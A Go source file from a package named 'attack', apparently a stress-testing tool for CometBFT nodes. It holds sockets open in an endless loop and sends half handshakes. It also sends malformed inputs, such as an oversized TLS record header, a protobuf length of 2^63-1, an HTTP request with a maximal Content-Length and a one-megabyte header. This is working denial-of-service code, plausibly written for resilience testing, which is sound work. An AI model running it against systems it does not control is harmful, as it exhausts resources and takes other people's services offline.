package attack

import (
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/time/rate"
)

const (
	holdFor    = 30 * time.Second // longer than the limit of any handshake
	listenFor  = 5 * time.Second  // wait for a victim's answer to garbage
	longHeader = 1 << 20          // bytes of an endless HTTP header
)

// connect opens connections in an endless loop, at most maxSockets at a time: one is closed at
// once, the next is held, the next is held after half a handshake.
func (a *Attack) connect(ctx context.Context) {
	ports := a.ports()
	if len(ports) == 0 {
		return
	}
	// TLS, CometBFT's p2p, HTTP
	halves := [][]byte{clientHello()[:60], {34, 10, 32, 1, 2, 3}, []byte("GET /status HTTP/1.1\r\nHost: a\r\n")}
	pace := rate.NewLimiter(connectsRate, 1)
	sockets := make(chan struct{}, maxSockets)
	var wg sync.WaitGroup
	defer wg.Wait()
	for n := 0; pace.Wait(ctx) == nil; n++ {
		select {
		case sockets <- struct{}{}:
		case <-ctx.Done():
			return
		}
		port, round := ports[n%len(ports)], n/len(ports)
		wg.Go(func() {
			defer func() { <-sockets }()
			switch round % 3 {
			case 0:
				a.hold(ctx, port, nil, 0)
			case 1:
				a.hold(ctx, port, nil, holdFor)
			case 2:
				a.hold(ctx, port, halves[round/3%len(halves)], holdFor)
			}
		})
	}
}

// hold opens a connection, sends bytes, and closes it after atMost, or when the other side does.
func (a *Attack) hold(ctx context.Context, port string, send []byte, atMost time.Duration) {
	c, err := a.dial(ctx, port)
	if err != nil {
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	a.connects.Add(1)
	if atMost == 0 || c.SetDeadline(time.Now().Add(atMost)) != nil {
		return
	}
	if _, err := c.Write(send); err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, c) // until one side closes; the bytes are ignored
}

// throwGarbage sends bytes that are not a handshake to every port, in turn.
func (a *Attack) throwGarbage(ctx context.Context) {
	ports := a.ports()
	if len(ports) == 0 {
		return
	}
	random := rand.New(rand.NewPCG(a.o.Seed, 1))
	pace := rate.NewLimiter(garbageRate, 1)
	var wg sync.WaitGroup
	defer wg.Wait()
	for n := 0; pace.Wait(ctx) == nil; n++ {
		garbage := makeGarbage(n/len(ports), random)
		wg.Go(func() {
			a.garbage.Add(1)
			a.hold(ctx, ports[n%len(ports)], garbage, listenFor)
		})
	}
}

// makeGarbage returns bytes of one of seven kinds.
func makeGarbage(kind int, random *rand.Rand) []byte {
	switch kind % 7 {
	case 0:
		b := make([]byte, 1+random.IntN(4096))
		for i := range b {
			b[i] = byte(random.Uint32())
		}
		return b
	case 1:
		hello := clientHello()
		return hello[:1+random.IntN(len(hello)-1)]
	case 2:
		return []byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n")
	case 3: // a TLS record of 65,535 bytes, of which a few come
		return []byte{22, 3, 1, 255, 255, 1, 0, 255, 255}
	case 4: // a protobuf message of 2^63 - 1 bytes, as CometBFT's p2p reads the length
		return []byte{255, 255, 255, 255, 255, 255, 255, 255, 127, 1}
	case 5:
		return []byte("POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9223372036854775807\r\n\r\n{")
	default:
		return []byte("GET / HTTP/1.1\r\nHost: a\r\nX-Long: " + strings.Repeat("x", longHeader))
	}
}

// clientHello returns the first message of a TLS client.
func clientHello() []byte {
	here, there := net.Pipe()
	defer there.Close()
	go func() {
		defer here.Close()
		client := tls.Client(here, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // only the first message is needed; there is no answer
		_ = client.HandshakeContext(context.Background())
	}()
	b := make([]byte, 4096)
	n, err := there.Read(b)
	if err != nil || n < 100 {
		panic("crypto/tls has sent no hello")
	}
	return b[:n]
}
